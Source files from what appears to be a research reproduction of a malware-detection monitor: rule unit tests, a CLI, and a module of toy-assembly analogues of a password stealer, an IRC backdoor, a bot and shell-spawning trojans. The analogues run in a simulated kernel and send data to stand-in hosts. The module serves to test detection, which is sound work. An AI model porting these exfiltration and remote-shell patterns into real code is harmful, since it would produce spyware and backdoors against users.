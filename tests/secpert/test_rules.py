"""Unit tests for Secpert's rule categories, driven by synthetic Harrier
events (no kernel involved)."""

import pytest

from repro.harrier.events import (
    DataTransferEvent,
    ProcessEvent,
    ResourceAccessEvent,
    ResourceId,
)
from repro.kernel.process import ResourceKind
from repro.secpert import PolicyConfig, Secpert, Severity
from repro.taint import DataSource, Tag, TagSet, union_all

APP = "/home/evil/a.out"
BIN = TagSet.of(DataSource.BINARY, APP)
USER = TagSet.of(DataSource.USER_INPUT)
SOCK_ORIGIN = TagSet.of(DataSource.SOCKET, "gateway:9")
EMPTY = TagSet.empty()


def base(call_name, **overrides):
    fields = dict(pid=1, time=10, frequency=3, address="1000",
                  call_name=call_name)
    fields.update(overrides)
    return fields


def execve_event(origin, frequency=3, time=10):
    return ResourceAccessEvent(
        **base("SYS_execve", frequency=frequency, time=time),
        resource=ResourceId(ResourceKind.FILE, "/bin/ls"),
        origin=origin,
    )


def write_event(kind, name, data_tags, resource_origin,
                source_origins=(), **overrides):
    return DataTransferEvent(
        **base("SYS_write", **overrides),
        direction="write",
        resource=ResourceId(kind, name),
        data_tags=data_tags,
        resource_origin=resource_origin,
        source_origins=source_origins,
        length=8,
    )


@pytest.fixture
def secpert():
    return Secpert(PolicyConfig(rare_frequency=2, long_time=100))


def severities(warnings):
    return sorted(w.severity for w in warnings)


class TestExecFlow:
    def test_hardcoded_name_low(self, secpert):
        warnings = secpert.analyze(execve_event(BIN))
        assert [w.severity for w in warnings] == [Severity.LOW]
        assert warnings[0].rule == "check_execve"
        assert '"/bin/ls"' in warnings[0].headline

    def test_rare_hardcoded_medium(self, secpert):
        warnings = secpert.analyze(execve_event(BIN, frequency=1, time=500))
        assert [w.severity for w in warnings] == [Severity.MEDIUM]
        assert any("rarely executed" in d for d in warnings[0].details)

    def test_socket_origin_high(self, secpert):
        warnings = secpert.analyze(execve_event(SOCK_ORIGIN))
        assert [w.severity for w in warnings] == [Severity.HIGH]

    def test_user_origin_silent(self, secpert):
        assert secpert.analyze(execve_event(USER)) == []

    def test_trusted_binary_origin_silent(self, secpert):
        libc = TagSet.of(DataSource.BINARY, "/lib/libc.so")
        assert secpert.analyze(execve_event(libc)) == []

    def test_socket_beats_rare_medium(self, secpert):
        mixed = BIN.union(SOCK_ORIGIN)
        warnings = secpert.analyze(
            execve_event(mixed, frequency=1, time=500)
        )
        assert [w.severity for w in warnings] == [Severity.HIGH]


class TestResourceAbuse:
    def make_event(self, total, recent):
        return ProcessEvent(
            **base("SYS_clone"),
            total_created=total,
            recent_created=recent,
            window=2000,
        )

    def test_below_thresholds_silent(self, secpert):
        assert secpert.analyze(self.make_event(total=3, recent=3)) == []

    def test_count_threshold_low(self, secpert):
        warnings = secpert.analyze(self.make_event(total=9, recent=1))
        assert [w.rule for w in warnings] == ["check_clone_count"]
        assert warnings[0].severity is Severity.LOW

    def test_rate_threshold_medium(self, secpert):
        warnings = secpert.analyze(self.make_event(total=6, recent=6))
        assert [w.rule for w in warnings] == ["check_clone_rate"]
        assert warnings[0].severity is Severity.MEDIUM

    def test_both_thresholds_fire_rate_first(self, secpert):
        warnings = secpert.analyze(self.make_event(total=9, recent=9))
        assert [w.rule for w in warnings] == [
            "check_clone_rate", "check_clone_count"
        ]


class TestBinaryFlows:
    def test_binary_to_hardcoded_file_high(self, secpert):
        warnings = secpert.analyze(
            write_event(ResourceKind.FILE, ".exrc%", BIN, BIN)
        )
        assert [w.severity for w in warnings] == [Severity.HIGH]
        assert warnings[0].rule == "check_binary_to_file"
        text = warnings[0].render()
        assert "The Data written to this file is originated from the" in text
        assert APP in text

    def test_binary_to_user_file_silent(self, secpert):
        assert secpert.analyze(
            write_event(ResourceKind.FILE, "out.txt", BIN, USER)
        ) == []

    def test_binary_to_remote_named_file_high(self, secpert):
        warnings = secpert.analyze(
            write_event(ResourceKind.FILE, "drop", BIN, SOCK_ORIGIN)
        )
        assert [w.severity for w in warnings] == [Severity.HIGH]
        assert any("socket" in d for d in warnings[0].details)

    def test_binary_to_hardcoded_socket_low(self, secpert):
        warnings = secpert.analyze(
            write_event(ResourceKind.SOCKET, "duero:40400", BIN, BIN)
        )
        assert [w.severity for w in warnings] == [Severity.LOW]
        assert warnings[0].rule == "check_binary_to_socket"

    def test_one_warning_per_untrusted_binary_source(self, secpert):
        data = union_all([
            TagSet.of(DataSource.BINARY, "/lib/libcrypto.so.4"),
            TagSet.of(DataSource.BINARY, "/usr/lib/libreadline.so.4"),
        ])
        warnings = secpert.analyze(
            write_event(ResourceKind.SOCKET, "duero:40400", data, BIN)
        )
        assert len(warnings) == 2  # pwsafe's two Low warnings

    def test_fifo_counts_as_file(self, secpert):
        warnings = secpert.analyze(
            write_event(ResourceKind.FIFO, "inpipe1", BIN, BIN)
        )
        assert warnings[0].rule == "check_binary_to_file"


class TestUserAndHardwareFlows:
    def test_user_to_hardcoded_file_high(self, secpert):
        warnings = secpert.analyze(
            write_event(ResourceKind.FILE, ".exrc%", USER, BIN)
        )
        rules = {w.rule for w in warnings}
        assert "check_user_input_flow" in rules
        assert all(w.severity is Severity.HIGH for w in warnings)

    def test_user_to_user_file_silent(self, secpert):
        assert secpert.analyze(
            write_event(ResourceKind.FILE, "a.txt", USER, USER)
        ) == []

    def test_hardware_to_hardcoded_file_high(self, secpert):
        hw = TagSet.of(DataSource.HARDWARE)
        warnings = secpert.analyze(
            write_event(ResourceKind.FILE, "/tmp/hw", hw, BIN)
        )
        assert [w.rule for w in warnings] == ["check_hardware_flow"]
        assert warnings[0].severity is Severity.HIGH

    def test_hardware_to_user_file_silent(self, secpert):
        hw = TagSet.of(DataSource.HARDWARE)
        assert secpert.analyze(
            write_event(ResourceKind.FILE, "mine.txt", hw, USER)
        ) == []


class TestResourceFlows:
    def file_tag(self, name="/etc/passwd"):
        return Tag(DataSource.FILE, name)

    def test_hard_to_hard_high(self, secpert):
        tag = self.file_tag()
        warnings = secpert.analyze(
            write_event(
                ResourceKind.SOCKET, "evil:80",
                TagSet((tag,)), BIN,
                source_origins=((tag, BIN),),
            )
        )
        assert [w.severity for w in warnings] == [Severity.HIGH]
        assert warnings[0].rule == "check_resource_flow"

    def test_user_to_hard_low(self, secpert):
        tag = self.file_tag("notes.txt")
        warnings = secpert.analyze(
            write_event(
                ResourceKind.SOCKET, "evil:80",
                TagSet((tag,)), BIN,
                source_origins=((tag, USER),),
            )
        )
        assert [w.severity for w in warnings] == [Severity.LOW]

    def test_hard_to_user_low(self, secpert):
        tag = self.file_tag()
        warnings = secpert.analyze(
            write_event(
                ResourceKind.FILE, "mine.txt",
                TagSet((tag,)), USER,
                source_origins=((tag, BIN),),
            )
        )
        assert [w.severity for w in warnings] == [Severity.LOW]

    def test_user_to_user_silent(self, secpert):
        tag = self.file_tag("notes.txt")
        assert secpert.analyze(
            write_event(
                ResourceKind.FILE, "mine.txt",
                TagSet((tag,)), USER,
                source_origins=((tag, USER),),
            )
        ) == []

    def test_server_context_elevates(self, secpert):
        # data from a connection accepted on a hardcoded server, written
        # to a hardcoded file (the pma socket->inpipe case)
        tag = Tag(DataSource.SOCKET, "gateway:37047")
        event = DataTransferEvent(
            **base("SYS_write"),
            direction="write",
            resource=ResourceId(ResourceKind.FIFO, "inpipe1"),
            data_tags=TagSet((tag,)),
            resource_origin=BIN,
            source_origins=((tag, EMPTY),),
            source_server_socket="LocalHost:11116",
            source_server_origin=BIN,
            length=4,
        )
        warnings = secpert.analyze(event)
        assert [w.severity for w in warnings] == [Severity.HIGH]
        assert any(
            "opened a socket for remote connections" in d
            for d in warnings[0].details
        )

    def test_read_direction_never_warns(self, secpert):
        tag = self.file_tag()
        event = DataTransferEvent(
            **base("SYS_read"),
            direction="read",
            resource=ResourceId(ResourceKind.FILE, "/etc/passwd"),
            data_tags=TagSet((tag,)),
            resource_origin=BIN,
            source_origins=((tag, BIN),),
            length=4,
        )
        assert secpert.analyze(event) == []
