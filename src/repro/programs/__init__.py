"""Guest workloads: the paper's evaluation programs, rebuilt for the
mini-ISA (micro-benchmarks, trusted programs, real exploits, macro
benchmarks) plus the guest libc they link against."""

from repro.programs.base import Workload, run_all
from repro.programs.extensions import extension_workloads
from repro.programs.libc import LIBC_PATH, LIBC_SOURCE, libc_image
from repro.programs.scenarios import (
    observe_patterns,
    paper_patterns,
    scenario_workloads,
)

__all__ = [
    "Workload",
    "run_all",
    "libc_image",
    "LIBC_PATH",
    "LIBC_SOURCE",
    "extension_workloads",
    "scenario_workloads",
    "observe_patterns",
    "paper_patterns",
]
