"""Runnable analogues of the paper's §2.1 real-world malware examples.

Table 1 *characterizes* nine exploits; these workloads make five of them
(plus Lodeight and Vundo, which live in :mod:`repro.programs.extensions`)
*runnable*, so the benchmark can verify that each pattern the paper
claims — no user intervention, remote direction, hardcoded resources,
performance degradation — is actually observed and warned about by HTH.

Each scenario is a faithful behavioural skeleton: what it opens, where it
connects, what it sends, who controls it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from dataclasses import dataclass
from typing import List

from repro.core.report import Verdict
from repro.kernel.network import ConversationPeer, SinkPeer
from repro.programs.base import Workload

# --------------------------------------------------------------------------
# PWSteal.Tarno.Q - password stealer: captures keystrokes and form data,
# stores them in predefined files, sends a unique machine ID and the loot
# to predefined addresses.
# --------------------------------------------------------------------------
PWSTEAL_SOURCE = r"""
main:
    ; capture "keystrokes" (whatever the victim types)
    mov ebx, 0
    mov ecx, keybuf
    mov edx, 63
    call read_line
    mov edi, eax            ; keystroke count
    ; store them in the predefined log file
    mov ebx, logfile
    mov ecx, 0x441          ; O_WRONLY|O_CREAT|O_APPEND
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, keybuf
    mov edx, edi
    call write
    mov ebx, esi
    call close
    ; read the machine ID from the hardware
    cpuid
    mov esi, idbuf
    store [esi], eax
    store [esi+1], ebx
    store [esi+2], ecx
    store [esi+3], edx
    ; connect to the predefined collection point
    mov ebx, home
    call gethostbyname
    mov ecx, eax
    call socket
    mov esi, eax
    mov ebx, esi
    mov edx, 80
    call connect_addr
    ; send the machine ID...
    mov ebx, esi
    mov ecx, idbuf
    mov edx, 4
    call write
    ; ...then periodically upload the collected log file
    mov ebx, logfile
    mov ecx, 0
    call open
    mov edi, eax
    mov ebx, edi
    mov ecx, lootbuf
    mov edx, 64
    call read
    mov edx, eax
    mov ebx, edi
    push edx
    call close
    pop edx
    mov ebx, esi
    mov ecx, lootbuf
    call write
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
logfile: .asciz "/windows/system/syslog32.dat"
lootbuf: .space 64
home:    .asciz "collector.tarno.example"
keybuf:  .space 64
idbuf:   .space 4
"""

# --------------------------------------------------------------------------
# W32.Mytob.J@mm - mass-mailing worm with a backdoor: copies itself to a
# system folder, connects to a predefined IRC channel, and executes the
# commands the channel sends; spreads by spawning mailer children.
# --------------------------------------------------------------------------
MYTOB_SOURCE = r"""
main:
    mov ebp, esp
    ; copy ourselves into the system folder (argv[0] = own path)
    load eax, [ebp+2]
    load ebx, [eax+0]
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    mov edi, eax
    mov ebx, esi
    call close
    mov ebx, syscopy
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, edi
    call write
    mov ebx, esi
    call close
    ; spawn mailer children (the mass-mailing half)
    mov edi, 0
mail_loop:
    cmp edi, 10
    jge irc
    call fork
    cmp eax, 0
    jnz mail_parent
    mov ebx, 0
    call exit               ; child "sends mail" and exits
mail_parent:
    add edi, 1
    jmp mail_loop
irc:
    ; connect to the predefined IRC channel and obey its commands
    mov ebx, irc_host
    call gethostbyname
    mov ecx, eax
    call socket
    mov esi, eax
    mov ebx, esi
    mov edx, 6667
    call connect_addr
    mov ebx, esi
    mov ecx, cmdbuf
    mov edx, 63
    call read_line
    cmp eax, 0
    jle done
    mov ebx, cmdbuf
    mov ecx, 0
    mov edx, 0
    call execve             ; run whatever the attacker said
done:
    mov eax, 0
    ret
.data
syscopy:  .asciz "/windows/system32/mytob.exe"
irc_host: .asciz "irc.mytob.example"
buf:      .space 64
cmdbuf:   .space 64
"""

# --------------------------------------------------------------------------
# Phatbot - p2p-controlled bot with a command set: steal CD keys, report
# system info, run commands via system().
# --------------------------------------------------------------------------
PHATBOT_SOURCE = r"""
main:
    mov ebx, p2p_host
    call gethostbyname
    mov ecx, eax
    call socket
    mov esi, eax
    mov edi, flood_fd
    store [edi], esi
    mov ebx, esi
    mov edx, 4387
    call connect_addr
command_loop:
    mov ebx, esi
    mov ecx, cmdbuf
    mov edx, 31
    call read_line
    cmp eax, 0
    jle done
    load eax, [ecx]
    cmp eax, 'K'            ; steal CD keys
    jz steal_keys
    cmp eax, 'S'            ; report system information
    jz sysinfo
    cmp eax, 'X'            ; execute a shell command
    jz run_command
    cmp eax, 'F'            ; flood: spawn processes to degrade the host
    jz flood
    jmp command_loop
steal_keys:
    mov ebx, keyfile
    mov ecx, 0
    call open
    mov edi, eax
    mov ebx, edi
    mov ecx, buf
    mov edx, 64
    call read
    mov edx, eax
    mov ebx, edi
    push edx
    call close
    pop edx
    mov ebx, esi
    mov ecx, buf
    call write
    jmp command_loop
sysinfo:
    cpuid
    mov edi, buf
    store [edi], eax
    store [edi+1], ebx
    store [edi+2], ecx
    store [edi+3], edx
    mov ebx, esi
    mov ecx, buf
    mov edx, 4
    call write
    jmp command_loop
run_command:
    mov ebx, cmdbuf
    add ebx, 1
    call system
    mov ebx, esi
    mov ecx, ackmsg
    call fputs
    jmp command_loop
flood:
    mov edi, 0
flood_loop:
    cmp edi, 10
    jge flood_done
    call fork
    cmp eax, 0
    jnz flood_parent
    mov ebx, 0
    call exit
flood_parent:
    add edi, 1
    jmp flood_loop
flood_done:
    mov esi, flood_fd
    load esi, [esi]
    mov ebx, esi
    mov ecx, ackmsg
    call fputs
    jmp command_loop
done:
    mov eax, 0
    ret
.data
p2p_host: .asciz "p2p.phatbot.example"
ackmsg:   .asciz "done\n"
flood_fd: .space 1
keyfile:  .asciz "/windows/registry/cdkeys.dat"
cmdbuf:   .space 32
buf:      .space 64
"""

# --------------------------------------------------------------------------
# Sendmail Trojan - build-time payload: forks a process that connects to
# a fixed server on port 6667 and gives the intruder a shell.
# --------------------------------------------------------------------------
SENDMAIL_TROJAN_SOURCE = r"""
main:
    ; the "build" does its normal work...
    mov ebx, buildmsg
    call print
    ; ...and quietly forks the payload
    call fork
    cmp eax, 0
    jz payload
    mov eax, 0
    ret
payload:
    mov ebx, c2_host
    call gethostbyname
    mov ecx, eax
    call socket
    mov esi, eax
    mov ebx, esi
    mov edx, 6667
    call connect_addr
    mov ebx, esi
    mov ecx, shellbuf
    mov edx, 63
    call read_line
    cmp eax, 0
    jle payload_done
    mov ebx, shellbuf
    mov ecx, 0
    mov edx, 0
    call execve             ; the intruder's shell
payload_done:
    mov ebx, 0
    call exit
.data
buildmsg: .asciz "Building sendmail...\n"
c2_host:  .asciz "fixed.server.example"
shellbuf: .space 64
"""

# --------------------------------------------------------------------------
# TCP Wrappers Trojan - a service that behaves normally for everyone,
# except that connections presenting the magic token get a root shell and
# an identification report.  The backdoor path is *rarely executed* - the
# code-frequency evidence the paper's policy uses.
# --------------------------------------------------------------------------
TCP_WRAPPERS_SOURCE = r"""
main:
    call socket
    mov esi, eax
    mov ebx, esi
    mov ecx, 0x7F000001     ; LocalHost (hardcoded)
    mov edx, 421
    call bind_addr
    mov ebx, esi
    call listen
    mov edi, 0
serve_loop:
    cmp edi, 6
    jge done
    mov ebx, esi
    call accept
    push eax
    mov ebx, eax
    mov ecx, reqbuf
    mov edx, 31
    call read_line
    mov ecx, reqbuf
    load eax, [ecx]
    cmp eax, '!'            ; the magic source marker
    jz backdoor
    ; normal service: acknowledge and move on
    pop ebx
    push ebx
    mov ecx, okmsg
    call fputs
    pop ebx
    call close
    add edi, 1
    jmp serve_loop
backdoor:
    ; rarely-executed path: identify the host to the intruder
    pop ebx
    push ebx
    mov ecx, ident
    call fputs
    pop ebx
    call close
    add edi, 1
    jmp serve_loop
done:
    mov eax, 0
    ret
.data
okmsg:  .asciz "wrapped: ok\n"
ident:  .asciz "root@buildhost (uname: SIMOS 1.0)\n"
reqbuf: .space 32
"""


def _pwsteal_setup(hth: HTH) -> None:
    hth.network.add_peer(
        "collector.tarno.example", 80, lambda: SinkPeer("collector")
    )


def _mytob_setup(hth: HTH) -> None:
    hth.network.add_peer(
        "irc.mytob.example",
        6667,
        lambda: ConversationPeer("irc", opening=b"/bin/attack-tool\n"),
    )


def _phatbot_setup(hth: HTH) -> None:
    hth.fs.write_text(
        "/windows/registry/cdkeys.dat", "GAME-KEY-12345-ABCDE\n"
    )
    hth.network.add_peer(
        "p2p.phatbot.example",
        4387,
        lambda: ConversationPeer(
            "controller",
            opening=b"K steal\n",
            replies=[b"S info\n", b"X echo owned\n", b"F flood\n", b""],
        ),
    )


def _sendmail_setup(hth: HTH) -> None:
    hth.network.add_peer(
        "fixed.server.example",
        6667,
        lambda: ConversationPeer("intruder", opening=b"/bin/sh\n"),
    )


def _tcp_wrappers_setup(hth: HTH) -> None:
    # Five normal clients, then - much later, from a rarely-taken path -
    # the intruder with the magic marker.
    for i in range(5):
        hth.network.schedule_connect(
            500 + i * 300, "LocalHost", 421,
            ConversationPeer(f"client{i}", opening=b"hello\n",
                             close_when_done=False),
        )
    hth.network.schedule_connect(
        8000, "LocalHost", 421,
        ConversationPeer("intruder", opening=b"!magic\n",
                         close_when_done=False),
    )


def scenario_workloads() -> List[Workload]:
    return [
        Workload(
            name="PWSteal.Tarno.Q",
            program_path="/windows/iehelper.exe",
            source=PWSTEAL_SOURCE,
            description="password stealer: keystrokes to a predefined "
                        "file, machine ID + loot to a predefined host",
            setup=_pwsteal_setup,
            stdin="alice:hunter2\n",
            expected_verdict=Verdict.HIGH,
            expected_rules=(
                "check_user_input_flow",   # keystrokes -> hardcoded file
                "check_hardware_flow",     # machine ID -> hardcoded host
                "check_resource_flow",     # log file -> hardcoded host
            ),
        ),
        Workload(
            name="W32.Mytob.J@mm",
            program_path="/home/user/mytob.exe",
            source=MYTOB_SOURCE,
            description="mass mailer + IRC-commanded backdoor",
            setup=_mytob_setup,
            expected_verdict=Verdict.HIGH,
            expected_rules=(
                "check_resource_flow",     # self-copy into system folder
                "check_clone_count",       # mailer children
                "check_execve",            # IRC-supplied command (High)
            ),
        ),
        Workload(
            name="Phatbot",
            program_path="/home/user/phatbot.exe",
            source=PHATBOT_SOURCE,
            description="p2p bot: CD-key theft, system info, system()",
            setup=_phatbot_setup,
            expected_verdict=Verdict.HIGH,
            expected_rules=(
                "check_resource_flow",     # cdkeys.dat -> p2p host
                "check_hardware_flow",     # CPUID -> p2p host
                "check_clone_count",       # the flood command
            ),
        ),
        Workload(
            name="Sendmail Trojan",
            program_path="/home/user/sendmail-build",
            source=SENDMAIL_TROJAN_SOURCE,
            description="build-time payload: forked shell to a fixed "
                        "server on port 6667",
            setup=_sendmail_setup,
            expected_verdict=Verdict.HIGH,
            expected_rules=("check_execve",),
        ),
        Workload(
            name="TCP Wrappers Trojan",
            program_path="/usr/sbin/tcpd",
            source=TCP_WRAPPERS_SOURCE,
            description="service with a rarely-executed magic-token "
                        "backdoor that identifies the host to intruders",
            setup=_tcp_wrappers_setup,
            expected_verdict=Verdict.HIGH,
            expected_rules=("check_binary_to_socket",),
        ),
    ]


@dataclass(frozen=True)
class PatternObservation:
    """Table 1's *observable* pattern columns, measured live on one run.

    ("No user intervention" is definitional — every scenario here
    installs and runs without consent; the stdin some workloads consume
    models *captured victim keystrokes*, not cooperation.)
    """

    name: str
    remotely_directed: bool
    hardcoded_resources: bool
    degrading_performance: bool
    verdict: Verdict


def paper_patterns() -> dict:
    """Table 1's claims for the scenarios built here, straight from the
    characterization data (so the live bench checks against the same
    source as the static Table 1 bench)."""
    from repro.analysis.characterization import TABLE1_PROFILES

    built = {w.name for w in scenario_workloads()}
    return {
        p.name: PatternObservation(
            name=p.name,
            remotely_directed=p.remotely_directed,
            hardcoded_resources=p.hardcoded_resources,
            degrading_performance=p.degrades_performance,
            verdict=Verdict.HIGH,
        )
        for p in TABLE1_PROFILES
        if p.name in built
    }


def observe_patterns(workload: Workload) -> PatternObservation:
    """Run a scenario and derive the Table 1 pattern columns from what
    HTH actually observed."""
    from repro.harrier.events import (
        DataTransferEvent,
        MemoryEvent,
        ProcessEvent,
    )

    report = workload.run()
    socket_reads = any(
        isinstance(e, DataTransferEvent)
        and e.direction == "read"
        and e.resource is not None
        and e.resource.kind.value == "SOCKET"
        for e in report.events
    )
    from repro.harrier.events import ResourceAccessEvent
    from repro.secpert.policy import PolicyConfig

    policy = PolicyConfig()
    hardcoded = any(
        isinstance(e, ResourceAccessEvent)
        and policy.is_hardcoded(e.origin)
        for e in report.events
    )
    degrading = any(
        isinstance(e, (ProcessEvent, MemoryEvent)) for e in report.events
    ) and any(
        w.rule in ("check_clone_count", "check_clone_rate",
                   "check_memory_usage", "check_memory_abuse")
        for w in report.warnings
    )
    return PatternObservation(
        name=workload.name,
        remotely_directed=socket_reads,
        hardcoded_resources=hardcoded,
        degrading_performance=degrading,
        verdict=report.verdict,
    )
