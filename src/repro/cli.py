"""Command-line interface: run guest programs under HTH from the shell.

Usage (also via ``python -m repro``)::

    # run a guest assembly program under the full monitor
    python -m repro run trojan.s --path /usr/bin/applet \
        --file /etc/secret="password" --peer evil.example.com:4000 \
        --arg input.txt --stdin "typed text"

    # static Secure Binary audit (Appendix B)
    python -m repro audit trojan.s

    # show the instrumented listing (Figure 5 view)
    python -m repro instrument trojan.s

    # reproduce a paper table
    python -m repro table 6

    # the full 62-workload sweep, sharded over 4 worker processes
    python -m repro fleet --workers 4

    # adversarial variant sweep: 1000+ mutated Trojans, evasion report
    python -m repro sweep --per-class 5 --json BENCH_adversarial.json

    # chaos stability: Table 8 exploits under 10 fault schedules
    python -m repro chaos --table 8 --trials 10

    # replay one fault schedule bit-for-bit from a RunReport seed
    python -m repro chaos --table 8 --workload pma --seed 42 --show-faults

    # live overhead breakdown (the paper's section 8/9 study, one run)
    python -m repro profile trojan.s

    # Perfetto-loadable trace + metrics dump of any run
    python -m repro run trojan.s --trace trace.json --metrics

    # warm-cache sweeps: repeat traffic answers from the verdict cache
    python -m repro fleet --workers 4 --cache-dir .repro-cache
    python -m repro cache stats --dir .repro-cache
"""

from __future__ import annotations

import argparse
import json
import pathlib
import sys
from typing import Optional, Sequence

from repro.analysis.instrumentation import render_listing
from repro.analysis.secure_binary import check_secure_binary
from repro.api import Session
from repro.cache import CacheEnv, DiskStore, VerdictCache
from repro.core.hth import HTH
from repro.core.options import RunOptions
from repro.core.report import RunReport
from repro.fleet.refs import (
    REGISTRIES,
    WorkloadRef,
    registry_workloads,
    workload_refs,
)
from repro.harrier.config import HarrierConfig
from repro.isa.assembler import AssemblyError, assemble
from repro.kernel.network import ConversationPeer, SinkPeer
from repro.telemetry import Telemetry


def _load_image(source_path: str, guest_path: Optional[str]):
    path = pathlib.Path(source_path)
    source = path.read_text()
    name = guest_path or f"/bin/{path.stem}"
    return assemble(name, source)


def _parse_kv(option: str, value: str) -> tuple:
    key, sep, rest = value.partition("=")
    if not sep:
        raise SystemExit(f"--{option} expects KEY=VALUE, got {value!r}")
    return key, rest


def _apply_run_setup(hth: HTH, args: argparse.Namespace) -> None:
    for entry in args.file or ():
        name, content = _parse_kv("file", entry)
        hth.fs.write_text(name, content)
    for entry in args.peer or ():
        host, _, port = entry.partition(":")
        if not port:
            raise SystemExit(f"--peer expects HOST:PORT, got {entry!r}")
        hth.network.add_peer(host, int(port), lambda: SinkPeer(host))
    for entry in args.serve or ():
        # HOST:PORT=payload - a peer that pushes payload on connect
        addr, payload = _parse_kv("serve", entry)
        host, _, port = addr.partition(":")
        if not port:
            raise SystemExit(f"--serve expects HOST:PORT=DATA, got {entry!r}")
        hth.network.add_peer(
            host,
            int(port),
            lambda payload=payload: ConversationPeer(
                host, opening=payload.encode()
            ),
        )


def _print_report(report: RunReport, show_events: bool) -> None:
    print(f"program : {report.program}")
    print(f"exit    : {report.exit_code} ({report.result.reason})")
    print(f"verdict : {report.verdict.value.upper()}")
    counts = report.warning_counts()
    print(f"warnings: LOW={counts['LOW']} MEDIUM={counts['MEDIUM']} "
          f"HIGH={counts['HIGH']}")
    if report.console_output:
        print("\n--- console ---")
        print(report.console_output.rstrip("\n"))
    if report.warnings:
        print("\n--- Secpert advice ---")
        print(report.render_warnings())
    if show_events:
        print("\n--- Harrier events ---")
        for event in report.events:
            print(event)


def _build_telemetry(
    args: argparse.Namespace, profile: bool = False
) -> Optional[Telemetry]:
    """An enabled hub when the command asked for observability output."""
    trace = getattr(args, "trace", None)
    metrics = getattr(args, "metrics", False)
    if not (trace or metrics or profile):
        return None
    return Telemetry.enabled(trace=bool(trace), profile=profile)


def _begin_track(
    telemetry: Optional[Telemetry], label: str
) -> Optional[Telemetry]:
    """Open a new trace track for one machine, pass the hub through."""
    if telemetry is not None and telemetry.tracer is not None:
        telemetry.tracer.begin_track(label)
    return telemetry


def _emit_telemetry(
    telemetry: Optional[Telemetry], args: argparse.Namespace
) -> None:
    """Write the trace file / print the metrics dump, as requested."""
    if telemetry is None:
        return
    if getattr(args, "metrics", False):
        print("\n--- telemetry metrics ---")
        print(telemetry.metrics.render())
    trace = getattr(args, "trace", None)
    if trace:
        telemetry.tracer.write(trace)
        print(
            f"wrote {trace} "
            f"({len(telemetry.tracer.finished())} spans)"
        )


def _run_options(args: argparse.Namespace, **overrides) -> RunOptions:
    """Fold the shared CLI execution flags into a :class:`RunOptions`."""
    return RunOptions(
        block_cache=not getattr(args, "no_block_cache", False),
        taint_fastpath=not getattr(args, "no_taint_fastpath", False),
        provenance=not getattr(args, "no_provenance", False),
        rete=not getattr(args, "no_rete", False),
        cache=not getattr(args, "no_cache", False),
        max_ticks=getattr(args, "max_ticks", None) or 5_000_000,
        **overrides,
    )


def _build_cache(args: argparse.Namespace) -> Optional[VerdictCache]:
    """A verdict cache when the command asked for one on disk.

    A purely in-memory cache is pointless for a one-shot CLI process,
    so the CLI only attaches a cache when ``--cache-dir`` names a store
    that outlives the invocation.
    """
    cache_dir = getattr(args, "cache_dir", None)
    if not cache_dir or getattr(args, "no_cache", False):
        return None
    return VerdictCache(disk_dir=cache_dir)


def _print_cache_line(cache: Optional[VerdictCache]) -> None:
    if cache is None:
        return
    snap = cache.snapshot()
    print(f"cache   : {snap['hits']} hit(s), {snap['misses']} miss(es), "
          f"{snap['stores']} stored")


def cmd_run(args: argparse.Namespace) -> int:
    image = _load_image(args.source, args.path)
    config = HarrierConfig(
        track_dataflow=not args.no_dataflow,
        track_bb_frequency=not args.no_bbfreq,
        complete_dataflow=not args.incomplete_dataflow,
    )
    telemetry = _build_telemetry(args)
    cache = _build_cache(args)
    session = Session(
        _run_options(args, harrier_config=config), telemetry=telemetry,
        cache=cache,
    )
    # The CLI's --file/--peer/--serve setup is declarative, so it can
    # travel into the cache key as a CacheEnv — without it the setup
    # closure would be opaque and every run a forced miss.
    files = dict(_parse_kv("file", entry) for entry in (args.file or ()))
    peers = {}
    for entry in args.peer or ():
        peers[entry] = ""
    for entry in args.serve or ():
        addr, payload = _parse_kv("serve", entry)
        peers[addr] = payload
    report = session.run(
        image,
        argv=[image.name] + list(args.arg or ()),
        stdin=args.stdin,
        setup=lambda hth: _apply_run_setup(hth, args),
        cache_env=CacheEnv.from_mappings(files, peers),
    )
    _print_report(report, args.events)
    _print_cache_line(cache)
    _emit_telemetry(telemetry, args)
    if args.json:
        out = pathlib.Path(args.json)
        out.write_text(report.to_json() + "\n")
        print(f"wrote {out}")
    if args.fail_on and report.max_severity is not None:
        threshold = {"low": 1, "medium": 2, "high": 3}[args.fail_on]
        if int(report.max_severity) >= threshold:
            return 1
    return 0


def cmd_explain(args: argparse.Namespace) -> int:
    """Render the evidence trail of every warning in an archived report.

    Accepts the JSON ``repro run --json`` / ``RunReport.to_dict()``
    writes (schema v2+); v1 archives load too, they just have no
    evidence to show.
    """
    from repro.telemetry.provenance import render_evidence

    data = json.loads(pathlib.Path(args.report).read_text())
    warnings = data.get("warnings") or []
    if args.rule:
        warnings = [w for w in warnings if w.get("rule") == args.rule]
    if not warnings:
        print("no warnings"
              + (f" for rule {args.rule}" if args.rule else "")
              + f" in {args.report}")
        return 0
    program = data.get("program", "?")
    print(f"{program}: {len(warnings)} warning(s), "
          f"verdict {str(data.get('verdict', '?')).upper()}")
    for warning in warnings:
        print(f"\n[{warning.get('severity', '?'):6s}] "
              f"{warning.get('rule')}: {warning.get('headline')}"
              f"  (pid {warning.get('pid')}, tick {warning.get('time')})")
        print(render_evidence(warning.get("evidence")))
    return 0


def cmd_audit(args: argparse.Namespace) -> int:
    image = _load_image(args.source, args.path)
    report = check_secure_binary(image)
    print(report.render())
    return 0 if report.is_secure else 1


def cmd_instrument(args: argparse.Namespace) -> int:
    image = _load_image(args.source, args.path)
    print(render_listing(image))
    return 0


# The registry map moved to repro.fleet.refs (the fleet engine and the
# benchmark harnesses need it too); kept here as the historical alias.
_TABLE_BENCHES = REGISTRIES


def cmd_table(args: argparse.Namespace) -> int:
    workloads = registry_workloads(args.number)
    telemetry = _build_telemetry(args)
    cache = _build_cache(args)
    session = Session(_run_options(args), telemetry=telemetry, cache=cache)
    width = max(len(w.name) for w in workloads)
    failures = 0
    for workload in workloads:
        if telemetry is not None and telemetry.tracer is not None:
            telemetry.tracer.begin_track(workload.name)
        report = session.run_workload(workload)
        ok = workload.classified_correctly(report)
        failures += not ok
